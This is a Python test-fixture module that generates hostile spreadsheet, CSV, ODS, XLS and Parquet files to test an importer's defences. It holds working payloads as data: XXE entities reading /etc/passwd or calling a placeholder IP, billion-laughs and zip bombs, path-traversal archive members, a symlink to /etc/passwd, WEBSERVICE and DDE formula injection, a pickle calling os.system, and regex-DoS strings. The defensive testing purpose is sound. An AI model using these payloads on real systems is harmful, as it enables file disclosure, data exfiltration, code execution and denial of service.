"""Sheets made to do harm, as makers of files: the tests read them all, and the benchmark measures what each costs.

Each maker takes a folder, writes one file into it, and returns its path. What a file is refused with, or that it is
harmless, stands in `tests/sheets/test_hostile.py`.
"""

from __future__ import annotations

import io
import random
import struct
import warnings
import zipfile
import zlib
from typing import TYPE_CHECKING

import pyarrow as pa
import pyarrow.parquet as pq

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_CELL = '<row r="1"><c r="A1"><v>1</v></c></row>'
_SHEET, _SHARED, _BOOK = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"
_LINKS = "xl/_rels/workbook.xml.rels"
_MIB = 1 << 20
#: A file of this size is still read: the largest that a person may send.
_LARGEST = 60 * _MIB
_CELL_LENGTH = 39_000
_HEADER = (
    "Nama",
    "NIK",
    "Jenis Kelamin",
    "Umur",
    "Kelurahan",
    "Kecamatan",
    "Tanggal Lapor",
    "Sumber",
    "Jumlah Korban",
    "No LP",
)


def _sheet_part(rows: str, *, before: str = "", after: str = "") -> str:
    return f'<worksheet xmlns="{_MAIN}">{before}<sheetData>{rows}</sheetData>{after}</worksheet>'


def _book_part(names: dict[str, str]) -> str:
    listed = "".join(
        f'<sheet name="{name}" sheetId="{at}" r:id="{one}"/>' for at, (name, one) in enumerate(names.items(), 1)
    )
    return f'<workbook xmlns="{_MAIN}" xmlns:r="{_OFFICE}"><sheets>{listed}</sheets></workbook>'


def _links_part(targets: dict[str, str], *, mode: str = "") -> str:
    def link(name: str, target: str) -> str:
        kind = "sharedStrings" if target.endswith("Strings.xml") else "worksheet"
        return f'<Relationship Id="{name}" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>'

    return f'<Relationships xmlns="{_PACKAGE}">{"".join(link(*one) for one in targets.items())}</Relationships>'


_USUAL_LINKS = {"r1": "worksheets/sheet1.xml", "r2": "sharedStrings.xml"}


def xlsx(
    sheet: str | bytes, shared: str = "", extra: dict[str, str | bytes] | None = None, *, twice: bool = False
) -> bytes:
    """A workbook of one sheet.

    Parameters
    ----------
    sheet
        Its rows, or the whole part where it begins with `<?` or is bytes.
    shared
        Items of the list of texts.
    extra
        Further parts by path; they take the place of ours.
    twice
        Whether they stand beside ours of the same path instead.
    """
    extra = extra or {}
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" Type="{_OFFICE}/officeDocument" '
        f'Target="{_BOOK}"/></Relationships>',
        _BOOK: _book_part({"A": "r1"}),
        _LINKS: _links_part(_USUAL_LINKS),
    }
    if shared:
        parts[_SHARED] = shared if shared.startswith("<?") else f'<sst xmlns="{_MAIN}">{shared}</sst>'
    is_whole = isinstance(sheet, bytes) or sheet.startswith("<?")
    parts[_SHEET] = sheet if is_whole else _sheet_part(str(sheet))
    made = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        # Python warns of a name that stands there twice.
        warnings.simplefilter("ignore", UserWarning)
        for name, content in parts.items():
            if twice or name not in extra:
                archive.writestr(name, content)
        for name, content in extra.items():
            archive.writestr(name, content)
    return made.getvalue()


def ods(rows: str, *, before: str = "") -> bytes:
    """An OpenDocument sheet with these rows, and `before` ahead of its root element."""
    names = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?>{before}<office:document-content {names} office:version="1.2">'
        f'<office:body><office:spreadsheet><table:table table:name="A">{rows}</table:table></office:spreadsheet>'
        "</office:body></office:document-content>"
    )
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", content)
        archive.writestr(
            "META-INF/manifest.xml",
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
        )
    return made.getvalue()


# Workbooks: what the XML says


def _inline(text: str) -> str:
    return f'<row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c></row>'


def _with_doctype(inner: str, text: str) -> str:
    return f'<?xml version="1.0"?><!DOCTYPE x [{inner}]>{_sheet_part(_inline(text))}'


def _laughs() -> str:
    steps = "".join(f'<!ENTITY a{at} "{f"&a{at - 1};" * 10}">' for at in range(1, 10))
    return f'<!ENTITY a0 "ha">{steps}'


_ENTITIES = _with_doctype('<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">', "&b;")


def _million_references(index: str = "0") -> bytes:
    rows = "".join(f'<row r="{at}"><c r="A{at}" t="s"><v>{index}</v></c></row>' for at in range(1, 200_000))
    return xlsx(rows, shared=f"<si><t>{'x' * 30_000}</t></si>")


def _under_another_root(sheet: str) -> bytes:
    return f'<book xmlns="{_MAIN}"><sheetData>{sheet}</sheetData></book>'.encode()


def _merged(many: int, cells: str) -> bytes:
    merged = f'<mergeCells>{f"""<mergeCell ref="{cells}"/>""" * many}</mergeCells>'
    return xlsx(_sheet_part(_inline("x") + '<row r="2"><c r="A2"><v>1</v></c></row>', after=merged).encode())


def _formulas() -> bytes:
    written = (
        'WEBSERVICE("http://192.0.2.1/"&amp;A1)',
        "cmd|' /C calc'!A0",
        'HYPERLINK("http://192.0.2.1/","x")',
        "[http://192.0.2.1/a.xlsx]A!A1",
    )
    cells = "".join(
        f'<c r="{letter}1" t="str"><f>{one}</f><v>x</v></c>' for letter, one in zip("ABCD", written, strict=True)
    )
    return xlsx(f'<row r="1">{cells}</row><row r="2"><c r="A2"><v>1</v></c></row>')


def _one_part_many_times(many: int, rows: int) -> bytes:
    links = {f"r{at}": "worksheets/sheet1.xml" for at in range(many)}
    sheet = '<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row>' + "".join(
        f'<row r="{at}"><c r="A{at}"><v>{at}</v></c><c r="B{at}"><v>{at}</v></c></row>' for at in range(2, rows + 2)
    )
    book = _book_part({f"L{at}": f"r{at}" for at in range(many)})
    return xlsx(sheet, extra={_BOOK: book, _LINKS: _links_part(links)})


def _far_apart(many: int) -> bytes:
    """Sheets of two cells each, in opposite corners of the largest rectangle that one sheet may have."""
    sheet = _sheet_part(f'{_CELL}<row r="900000"><c r="M900000"><v>1</v></c></row>')
    parts = {f"xl/worksheets/sheet{at}.xml": sheet for at in range(1, many + 1)}
    links = {f"r{at}": f"worksheets/sheet{at}.xml" for at in range(1, many + 1)}
    return xlsx(
        sheet.encode(), extra={**parts, _BOOK: _book_part({one: one for one in links}), _LINKS: _links_part(links)}
    )


def _wide() -> bytes:
    def letters(at: int) -> str:
        found = ""
        while at:
            at, rest = divmod(at - 1, 26)
            found = chr(65 + rest) + found
        return found

    names = [letters(at) for at in range(1, 16_385)]
    rows = (
        f'<row r="{row}">{"".join(f"""<c r="{one}{row}"><v>1</v></c>""" for one in names)}</row>'
        for row in range(1, 6)
    )
    return xlsx("".join(rows))


# Workbooks: what the archive says


def _patched(raw: bytes, change: Callable[[zipfile.ZipInfo], None]) -> bytes:
    """An archive whose list of members tells something else than its members do."""
    made = io.BytesIO(raw)
    with zipfile.ZipFile(made, "a") as archive:
        for member in archive.infolist():
            change(member)
        # Without a change nothing is written at the end.
        archive.writestr("docProps/x.xml", "<x/>")
    return made.getvalue()


def _link() -> bytes:
    made = io.BytesIO(xlsx(_CELL))
    with zipfile.ZipFile(made, "a") as archive:
        entry = zipfile.ZipInfo("xl/media/x.xml")
        entry.create_system = 3
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return made.getvalue()


def _lie(size: int) -> Callable[[zipfile.ZipInfo], None]:
    def change(member: zipfile.ZipInfo) -> None:
        member.file_size = size

    return change


def _encrypt(member: zipfile.ZipInfo) -> None:
    member.flag_bits |= 1


def _zeros(folder: Path, name: str, gib: int) -> Path:
    """A part that unpacks to gigabytes of zeros."""
    path = folder / "berkas.xlsx"
    path.write_bytes(xlsx(_CELL))
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open(name, "w", force_zip64=True) as part,
    ):
        for _ in range(gib * 64):
            part.write(bytes(16 * _MIB))
    return path


def _overlapping(many: int = 60, kernel_mib: int = 20) -> bytes:
    """Members that each hold the next one's header, and all of them the same packed zeros (Fifield's bomb)."""
    names = [f"xl/media/{at}.bin".encode() for at in range(many)]
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    content = bytes(kernel_mib * _MIB)
    packed = packer.compress(content) + packer.flush()
    usual = xlsx(_CELL)
    with zipfile.ZipFile(io.BytesIO(usual)) as archive:
        begins, listed = archive.start_dir, len(archive.infolist())
    # From the innermost outwards: each is a stored block with the next header, and then the next one's data.
    tail, crc, size, heads = packed, zlib.crc32(content), len(content), list[tuple[bytes, int, int, int, int]]()
    for name in reversed(names):
        head = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 33, crc, len(tail), size, len(name), 0) + name
        heads.append((name, crc, len(tail), size, len(tail) + len(head)))
        quoted = struct.pack("<BHH", 0, len(head), len(head) ^ 0xFFFF) + head
        content, tail = head + content, quoted + tail
        crc, size = zlib.crc32(content), len(content)
    # The outermost head stands alone; the first block of `tail` quotes it.
    body = tail[5:]
    offset, entries = begins, list[bytes]()
    end = begins + len(body)
    for name, crc, packed_size, size, from_end in reversed(heads):
        offset = end - from_end
        entries.append(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                0,
                33,
                crc,
                packed_size,
                size,
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + name
        )
    directory = usual[begins : usual.rindex(b"PK\x05\x06")] + b"".join(entries)
    close = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, listed + many, listed + many, len(directory), end, 0)
    return usual[:begins] + body + directory + close


# Texts


def _table(cells: Callable[[int], str], many: int, *, header: tuple[str, ...] = _HEADER) -> bytes:
    """A csv with the headers of an import, and the same cell in every column of a row."""
    lines = [",".join(header), *(",".join([cells(at)] * len(header)) for at in range(many))]
    return ("\n".join(lines) + "\n").encode()


def _killers(at: int) -> str:
    """Texts on which a careless regular expression takes the square of their length, or worse."""
    fillings = (
        "(",
        "-",
        "1",
        "1 ",
        " -",
        "a ",
        "1.",
        "kab. ",
        "jumlah.",
        "kel ",
        "0-",
        "rt 1 ",
        "t1:1",
        "www.",
        "sk/",
        "e+1",
        "#",
        "x" * 30 + " ",
    )
    filling = fillings[at % len(fillings)]
    return (filling * (_CELL_LENGTH // len(filling))) + "!"


def _short_garbage(at: int) -> str:
    return f"x{at % 1_000}?"


def _marks(many: int) -> str:
    """Marks in the order that takes longest to sort into the one of Unicode."""
    return "e" + "\u0315\u0300\u0327\u0345"[::-1] * (many // 4)


_ZALGO_CELLS = 40
_BIDI = "\u202e\u2066\u2067\u202d\u200f"
_NUMBERS = (
    "1e400",
    "-1e400",
    "1e-400",
    "nan",
    "inf",
    "-inf",
    "9" * 9_999,
    "1" + "0" * 400,
    "0x10",
    "1_000",
    "٣",
    "²",
    "१",
)
_DATES = (
    "0000-00-00",
    "0001-01-01T00:00+14:00",
    "9999-12-31T24:00-12:00",
    "9999-12-31T23:59Z",
    "31/12/9999 23:59 UTC",
    "1/1/0001 00:00 WIT",
    "99999-01-01",
    "99999",
    "-1",
    "99999.999999",
    "2958466",
    "29/2/1900",
    "1/1/00",
)


def _columns_of(texts: tuple[str, ...]) -> bytes:
    rows = [",".join([text] * len(_HEADER)) for text in texts]
    return ("\n".join([",".join(_HEADER), *rows]) + "\n").encode()


def _totals(many: int) -> bytes:
    lines = [f"Jumlah,2018-01-01,{at}" for at in range(many)]
    return ("Kelurahan,Tanggal Lapor,Jumlah Korban\n" + "\n".join(lines) + "\n").encode()


def _names(many: int) -> bytes:
    """Names of places that are all different and near those of the layer."""
    drawn = random.Random(20181116)  # noqa: S311 - made-up names, no secrets
    near = ("Oesapa Barat", "Naikoten", "Kelapa Lima", "Nunbaun Sabu", "Batuplat", "Fontein")

    def written() -> str:
        letters = list(drawn.choice(near))
        for _ in range(3):
            letters[drawn.randrange(len(letters))] = drawn.choice("abcdefghijklmnopqrstuvwxyz")
        return "".join(letters)

    rows = [f"P,{written()},{written()},2018-01-01" for _ in range(many)]
    return ("Jenis Kelamin,Kelurahan,Kecamatan,Tanggal Lapor\n" + "\n".join(rows) + "\n").encode()


# Parquet


def _parquet(folder: Path, table: pa.Table, **options: object) -> Path:
    path = folder / "berkas.parquet"
    pq.write_table(table, path, **options)
    return path


def _repeated(folder: Path, rows: int, length: int) -> Path:
    """One text in every row: kilobytes as a file, gigabytes as a table."""
    texts = pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), pa.array(["x" * length]))
    plain = pa.table({"a": texts}, schema=pa.schema({"a": pa.dictionary(pa.int32(), pa.string())}))
    return _parquet(folder, plain, compression="zstd", store_schema=False)


def _wide_parquet(folder: Path, columns: int, rows: int) -> Path:
    nothing = pa.nulls(rows, pa.string())
    return _parquet(
        folder, pa.table([nothing] * columns, names=[f"k{at}" for at in range(columns)]), compression="zstd"
    )


def _large_dictionary(folder: Path) -> Path:
    texts = pa.array([f"{at:01000}" for at in range(100_000)])
    table = pa.table({"a": pa.DictionaryArray.from_arrays(pa.array([0, 1], pa.int32()), texts)})
    return _parquet(folder, table, compression="zstd")


def _nested(folder: Path, depth: int) -> Path:
    array = pa.array([1])
    for _ in range(depth):
        array = pa.ListArray.from_arrays(pa.array([0, 1], pa.int32()), array)
    return _parquet(folder, pa.table({"a": array}))


class _Extended(pa.ExtensionType):
    """A type that asks its reader to know a class by its name."""

    def __init__(self) -> None:
        super().__init__(pa.string(), "os.system")

    def __arrow_ext_serialize__(self) -> bytes:
        return b"cos\nsystem\n(S'true'\ntR."

    @classmethod
    def __arrow_ext_deserialize__(cls, storage_type: pa.DataType, serialized: bytes) -> _Extended:
        return cls()


def _extension(folder: Path) -> Path:
    array = pa.ExtensionArray.from_storage(_Extended(), pa.array(["a", "b"]))
    return _parquet(folder, pa.table({"a": array, "b": pa.array([1, 2])}))


def _lying_footer(length: int) -> bytes:
    return b"PAR1" + b"\x15\x04" * 100 + struct.pack("<I", length) + b"PAR1"


# OpenDocument

_STRING = '<table:table-cell office:value-type="string"{}><text:p>{}</text:p></table:table-cell>'
_SECOND = f"<table:table-row>{_STRING.format('', 'y')}</table:table-row>"


def _repeated_row(times: str, columns: str = "1", *, prefix: str = "") -> bytes:
    cell = _STRING.format(f' {prefix}table:number-columns-repeated="{columns}"', "x")
    return ods(f'<table:table-row {prefix}table:number-rows-repeated="{times}">{cell}</table:table-row>{_SECOND}')


#: A second attribute of the same ending, ahead of the true one.
_DECOY = 'xmlns:a="urn:a" a:number-columns-repeated="1" a:number-rows-repeated="1" '
_SPACES = ods(
    f'<table:table-row>{_STRING.format("", """x<text:s text:c="2000000000"/>""")}</table:table-row>{_SECOND}'
)


def _far_rows(many: int) -> str:
    """Rows of tables of two cells each, far apart."""
    gap = '<table:table-row table:number-rows-repeated="900000"><table:table-cell/></table:table-row>'
    far = _STRING.format(' table:number-columns-repeated="12"', "x")
    return '</table:table><table:table table:name="A">'.join(
        [f"{_SECOND}{gap}<table:table-row>{far}</table:table-row>"] * many
    )


def _deep(many: int) -> str:
    return f"<table:table-row>{'<table:table-cell>' * many}{'</table:table-cell>' * many}</table:table-row>"


# Old Excel: containers of before 2007, which are refused by what they are


def _container(fat: bytes, directory: bytes) -> bytes:
    head = _OLE + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0, 0, 0, 0) + struct.pack("<I", 0) * 109
    return head[:512].ljust(512, b"\0") + fat.ljust(512, b"\xff") + directory.ljust(512, b"\0")


def _workbook_stream(name: str) -> bytes:
    return name.encode("utf-16-le").ljust(64, b"\0") + struct.pack("<HBB", 2 * len(name) + 2, 5, 1) + bytes(60)


def _file(ending: str, make: Callable[[], bytes]) -> Callable[[Path], Path]:
    """Maker of a file of this content."""

    def made(folder: Path) -> Path:
        path = folder / f"berkas{ending}"
        path.write_bytes(make())
        return path

    return made


def _xlsx(
    sheet: str | bytes, shared: str = "", extra: dict[str, str | bytes] | None = None
) -> Callable[[Path], Path]:
    return _file(".xlsx", lambda: xlsx(sheet, shared, extra))


#: Makers by what they make.
MAKERS: dict[str, Callable[[Path], Path]] = {
    # The cells of workbooks
    "a cell in the last corner": _xlsx(_CELL + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    "a cell in the last corner, single quotes": _xlsx(
        _CELL + "<row r='1048576'><c r='XFD1048576'><v>1</v></c></row>"
    ),
    "a cell in the last corner, with prefixes": _xlsx(
        f'<?xml version="1.0"?><x:worksheet xmlns:x="{_MAIN}"><x:sheetData>'
        '<x:row r="1"><x:c r="A1"><x:v>1</x:v></x:c>'
        '</x:row><x:row r="1048576"><x:c r="XFD1048576"><x:v>1</x:v></x:c></x:row></x:sheetData></x:worksheet>'
    ),
    "a cell in the last corner, by character references": _xlsx(
        _CELL + '<row r="&#49;048576"><c r="&#88;FD&#49;048576"><v>1</v></c></row>'
    ),
    "a cell in the last corner of a part in UTF-16": _xlsx(
        f'<?xml version="1.0" encoding="UTF-16"?>{_sheet_part(_CELL)}'.encode("utf-16")
    ),
    "a cell in the last corner under another root": _xlsx(
        _under_another_root(_CELL + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    ),
    "42 million rows": _xlsx(_CELL + '<row r="4200000"><c r="J4200000"><v>1</v></c></row>'),
    "a row number of 5,000 digits": _xlsx(_CELL + f'<row r="{"9" * 5_000}"><c r="A{"9" * 5_000}"><v>1</v></c></row>'),
    "16,384 columns": _file(".xlsx", _wide),
    "a million rows of empty cells": _file(
        ".xlsx", lambda: xlsx(_CELL + "".join(f'<row r="{at}"><c r="A{at}"/></row>' for at in range(2, 1_000_002)))
    ),
    "a dimension that lies": _xlsx(
        _sheet_part(
            _inline("x") + '<row r="2"><c r="A2"><v>1</v></c></row>', before='<dimension ref="A1:XFD1048576"/>'
        ).encode()
    ),
    "one long text in very many cells": _file(".xlsx", _million_references),
    "one long text in very many cells, by +0": _file(".xlsx", lambda: _million_references("+0")),
    "one long text in very many cells, by many zeros": _file(".xlsx", lambda: _million_references("0" * 20)),
    "a count of texts that lies": _xlsx(
        '<row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="2"><c r="A2"><v>1</v></c></row>',
        f"<?xml version='1.0'?><sst xmlns='{_MAIN}' count='60000000' uniqueCount='60000000'><si><t>x</t></si></sst>",
    ),
    "a text of 60 million letters": _file(
        ".xlsx", lambda: xlsx("<row r='1'><c r='A1' t='s'><v>0</v></c></row>", f"<si><t>{'x' * 60_000_000}</t></si>")
    ),
    "a cell of 33 million letters": _file(
        ".xlsx", lambda: xlsx(_inline("x" * 33_000_000) + '<row r="2"><c r="A2"><v>1</v></c></row>')
    ),
    "a total with 39,000 points": _file(
        ".xlsx",
        lambda: xlsx(
            _CELL + '<row r="2"><c r="A2" t="inlineStr"><is><t>jumlah' + "." * _CELL_LENGTH + "1</t></is></c></row>"
        ),
    ),
    "two million merged ranges": _file(".xlsx", lambda: _merged(2_000_000, "A1:B2")),
    "190,000 merged ranges over the whole sheet": _file(".xlsx", lambda: _merged(190_000, "A1:XFD1048576")),
    "one merged range over the whole sheet": _file(".xlsx", lambda: _merged(1, "A1:XFD1048576")),
    "a million styles": _file(
        ".xlsx",
        lambda: xlsx(
            _CELL,
            extra={
                "xl/styles.xml": f'<styleSheet xmlns="{_MAIN}"><cellXfs>'
                + '<xf numFmtId="14"/>' * 1_000_000
                + "</cellXfs></styleSheet>"
            },
        ),
    ),
    "formulas that reach the network": _file(".xlsx", _formulas),
    "macros": _file(
        ".xlsm",
        lambda: xlsx(
            _inline("x") + '<row r="2"><c r="A2"><v>1</v></c></row>', extra={"xl/vbaProject.bin": _OLE + bytes(4_096)}
        ),
    ),
    # Their XML
    "entities": _xlsx(_ENTITIES),
    "entities in another encoding": _xlsx(_CELL, extra={"xl/theme.xml": _ENTITIES.encode("utf-16")}),
    "a billion laughs": _xlsx(_with_doctype(_laughs(), "&a9;")),
    "entities that grow by the square": _file(
        ".xlsx", lambda: xlsx(_with_doctype(f'<!ENTITY a "{"a" * 100_000}">', "&a;" * 50_000))
    ),
    "an entity that is a file": _xlsx(_with_doctype('<!ENTITY a SYSTEM "file:///etc/passwd">', "&a;")),
    "an entity that is an address": _xlsx(_with_doctype('<!ENTITY a SYSTEM "http://192.0.2.1/a">', "&a;")),
    "elements in elements, a million deep": _file(".xlsx", lambda: xlsx("<a>" * 1_000_000 + "</a>" * 1_000_000)),
    # Their relationships
    "a thousand sheets that are one part": _file(".xlsx", lambda: _one_part_many_times(1_000, 20_000)),
    "100,000 sheets": _file(".xlsx", lambda: _one_part_many_times(100_000, 1)),
    "1,900 sheets of two cells far apart": _file(".xlsx", lambda: _far_apart(1_900)),
    "a sheet elsewhere": _xlsx(
        _CELL, extra={_LINKS: _links_part({"r1": "http://192.0.2.1/sheet1.xml"}, mode=' TargetMode="External"')}
    ),
    "a sheet that is a file of the machine": _xlsx(
        _CELL, extra={_LINKS: _links_part({"r1": "../../../../../etc/passwd"})}
    ),
    "a workbook that is its own sheet": _xlsx(_CELL, extra={_LINKS: _links_part({"r1": "workbook.xml"})}),
    "the list of texts under another name": _xlsx(
        "".join(f'<row r="{at}"><c r="A{at}" t="s"><v>0</v></c></row>' for at in range(1, 100_000)),
        extra={
            "xl/x.xml": f'<list xmlns="{_MAIN}"><si><t>{"x" * 30_000}</t></si></list>',
            _LINKS: f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" Type="{_OFFICE}/worksheet" '
            f'Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{_OFFICE}/sharedStrings" Target="x.xml"/>'
            "</Relationships>",
        },
    ),
    # Their archive
    "a bomb": _file(".xlsx", lambda: xlsx(_CELL, extra={"xl/media/a.bin": bytes(513 * _MIB)})),
    "texts that unpack to 2 GiB of zeros": lambda folder: _zeros(folder, _SHARED, 2),
    "members that overlap": _file(".xlsx", _overlapping),
    "sizes that lie, in 64 bits": _file(".xlsx", lambda: _patched(xlsx(_CELL), _lie(1 << 60))),
    "sizes that lie, of nothing": _file(".xlsx", lambda: _patched(xlsx(_CELL), _lie(0))),
    "a part that stands there twice": _file(
        ".xlsx",
        lambda: xlsx(
            _CELL, extra={_SHEET: _sheet_part('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')}, twice=True
        ),
    ),
    "a member above its folder": _xlsx(_CELL, extra={"../../../../tmp/x.xml": "<x/>"}),
    "a member with a path from the root": _xlsx(_CELL, extra={"/etc/cron.d/x": "<x/>"}),
    "an archive in it": _file(".xlsx", lambda: xlsx(_CELL, extra={"xl/x.zip": xlsx(_CELL)})),
    "a link in it": _file(".xlsx", _link),
    "thousands of members": _file(
        ".xlsx", lambda: xlsx(_CELL, extra={f"xl/{at}.xml": "<a/>" for at in range(3_000)})
    ),
    "encrypted members": _file(".xlsx", lambda: _patched(xlsx(_CELL), _encrypt)),
    "locked with a password": _file(".xlsx", lambda: _OLE + bytes(4_096)),
    "no zip at all": _file(".xlsx", lambda: b"a,b\n1,2\n"),
    "cut off": _file(".xlsx", lambda: xlsx(_CELL)[:-40]),
    "cut off in the middle": _file(".xlsx", lambda: xlsx(_CELL)[:900]),
    # OpenDocument
    "a row a million times": _file(".ods", lambda: _repeated_row("1000000", "1000")),
    "a column two billion times": _file(".ods", lambda: _repeated_row("1", "2000000000")),
    "a row two billion times": _file(".ods", lambda: _repeated_row("2000000000")),
    "a column two billion times, with zeros before": _file(
        ".ods", lambda: _repeated_row("1", f"{'0' * 20}2000000000")
    ),
    "a column two billion times, with a plus": _file(".ods", lambda: _repeated_row("1", "+2000000000")),
    "a column two billion times, behind a decoy": _file(
        ".ods", lambda: _repeated_row("1000", "2000000000", prefix=_DECOY)
    ),
    "two billion spaces": _file(".ods", lambda: _SPACES),
    "1,000 sheets of two cells far apart in an ods": _file(".ods", lambda: ods(_far_rows(1_000))),
    "entities in an ods": _file(".ods", lambda: ods(_SECOND, before=f"<!DOCTYPE x [{_laughs()}]>")),
    "cells in cells, 300,000 deep": _file(".ods", lambda: ods(_deep(300_000))),
    "a text for an ods": _file(".ods", lambda: b"mimetype"),
    "an xlsx that says it is an ods": _file(".ods", lambda: xlsx(_CELL)),
    # Old Excel and pages of the web
    "of an old Excel": _file(".xls", lambda: _OLE + bytes(4_096)),
    "an old Excel with a list of sectors that is its own": _file(
        ".xls", lambda: _container(struct.pack("<I", 0) * 128, _workbook_stream("Workbook"))
    ),
    "an old Excel with sectors in a circle": _file(
        ".xls", lambda: _container(struct.pack("<III", 1, 2, 1), _workbook_stream("Book"))
    ),
    "an old Excel with four billion texts": _file(
        ".xls",
        lambda: _container(b"", _workbook_stream("Workbook")) + struct.pack("<HHII", 0xFC, 8, 0xFFFFFFFF, 0xFFFFFFFF),
    ),
    "a page of the web": _file(".xls", lambda: b"<html><body><table><tr><td>1</td></tr></table></body></html>"),
    "a page of the web after hundreds of remarks": _file(".xls", lambda: b"<!---->" * 600 + b"<x>"),
    # Texts
    "a single line of ten megabytes": _file(".csv", lambda: b"x" * 10_000_000),
    "a single line of 200 megabytes": _file(".csv", lambda: b"x" * 200_000_000),
    "a million columns": _file(".csv", lambda: b"a," * 1_000_000 + b"\n1\n"),
    "60 million columns": _file(".csv", lambda: b"a\n" + b"," * _LARGEST + b"\n"),
    "60 million cells": _file(".csv", lambda: b"," * 400 + b"a\n" + (b"a" + b"," * 400 + b"\n") * (_LARGEST // 403)),
    "20 million cells of one letter": _file(".csv", lambda: (b"a," * 399 + b"a\n") * 50_000),
    "60 million blank lines": _file(".csv", lambda: b"a,b\n" + b"\n" * 60_000_000 + b"1,2\n"),
    "an open quote before 60 megabytes": _file(
        ".csv", lambda: b'a,b\n"1,2\n' + (b"1," + b"2" * 60 + b"\n") * (_LARGEST // 63)
    ),
    "an open quote before 100 megabytes": _file(".csv", lambda: b'"' + b"1,2\n" * 25_000_000),
    "zeros": _file(".csv", lambda: b"a,b\n1,\0\n"),
    "nothing": _file(".csv", lambda: b""),
    "blanks": _file(".csv", lambda: b" \n;;\n"),
    "half pairs in UTF-16": _file(
        ".csv", lambda: b"\xff\xfe" + "a,b\n1,".encode("utf-16-le") + b"\x00\xd8" * 1_000 + b"\n\0"
    ),
    "UTF-7": _file(".csv", lambda: b"+/v8-a,b\n+ADw-script+AD4-,1\n"),
    "UTF-32": _file(".csv", lambda: "a,b\n1,2\n".encode("utf-32")),
    "signs that could not be read, ten million": _file(
        ".csv", lambda: b"\xef\xbb\xbfa,b\n" + (b"\xe9" + b",\xe9" * 19 + b"\n") * 500_000
    ),
    "texts against regular expressions": _file(".csv", lambda: _table(_killers, 150)),
    "places against regular expressions": _file(
        ".csv", lambda: _table(_killers, 500, header=("Kelurahan", "Kecamatan", "Tanggal Lapor"))
    ),
    "a total with 39,000 points in a csv": _file(
        ".csv", lambda: b"a,b\n" + b"jumlah" + b"." * _CELL_LENGTH + b"1,\n" * 2
    ),
    "a million rows that nobody can read": _file(".csv", lambda: _table(_short_garbage, 1_000_000)),
    "100,000 totals": _file(".csv", lambda: _totals(100_000)),
    "200,000 names of places": _file(".csv", lambda: _names(200_000)),
    "marks above marks": _file(".csv", lambda: _table(lambda _: _marks(_CELL_LENGTH), _ZALGO_CELLS)),
    "100,000 marks in a header": _file(
        ".xlsx", lambda: xlsx(_inline(_marks(100_000)) + '<row r="2"><c r="A2"><v>1</v></c></row>')
    ),
    "30,000 marks in a header": _file(".csv", f"{_marks(30_000)},Kelurahan\n1,Alak\n".encode),
    "texts that run backwards": _file(".csv", f"{_BIDI}Nama,Kelurahan{_BIDI}\n{_BIDI}a,{_BIDI}Alak\n".encode),
    "numbers without end": _file(".csv", lambda: _columns_of(_NUMBERS)),
    "days that no calendar has": _file(".csv", lambda: _columns_of(_DATES)),
    # Parquet
    "a footer that lies": _file(".parquet", lambda: _lying_footer(0x7FFFFFFF)),
    "a footer of nonsense": _file(".parquet", lambda: _lying_footer(100)),
    "a large dictionary": _large_dictionary,
    "kilobytes that are 40 GB": lambda folder: _repeated(folder, 1_000_000, 40_000),
    "kilobytes that are 1 GB": lambda folder: _repeated(folder, 1_000_000, 1_000),
    "300 empty columns of a million rows": lambda folder: _wide_parquet(folder, 300, 1_000_000),
    "100 empty columns of a million rows": lambda folder: _wide_parquet(folder, 100, 1_000_000),
    "lists in lists, 90 deep": lambda folder: _nested(folder, 90),
    "a type of its own": _extension,
}
